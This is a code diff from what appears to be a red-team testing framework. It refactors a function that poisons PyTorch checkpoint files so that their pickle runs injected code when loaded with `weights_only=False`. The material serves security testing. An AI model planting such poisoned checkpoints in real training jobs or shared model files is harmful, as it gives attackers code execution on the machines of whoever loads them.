@@ -11,11 +11,9 @@ the same bytes. Clean-up: checkpoints lie in the copied job. A job that loads sa
 
 from __future__ import annotations
 
-import io
 import re
-import zipfile
 
-from attacks._shared.checkpoints import PUT_BACK
+from attacks._shared.checkpoints import PUT_BACK, pickle_changed
 from attacks._shared.deliver import restart
 from trainwarden.redteam.interface import Act, Effect, Evidence, Moment, Technique, Variant, When
 from trainwarden.redteam.place import Range
@@ -27,14 +25,7 @@ _LOAD = "import sys, torch; torch.load(sys.argv[1], weights_only=False)"
 
 def poisoned(data: bytes, code: str) -> bytes:
     """A file of torch.save whose pickle runs `code` first and then gives what it gave before."""
-    out = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
-        for entry in old.infolist():
-            content = old.read(entry)
-            if entry.filename.endswith("/data.pkl"):
-                content = with_code(content, code)
-            new.writestr(entry.filename, content)
-    return out.getvalue()
+    return pickle_changed(data, lambda pickle: with_code(pickle, code))
 
 
 def with_code(pickle: bytes, code: str) -> bytes:
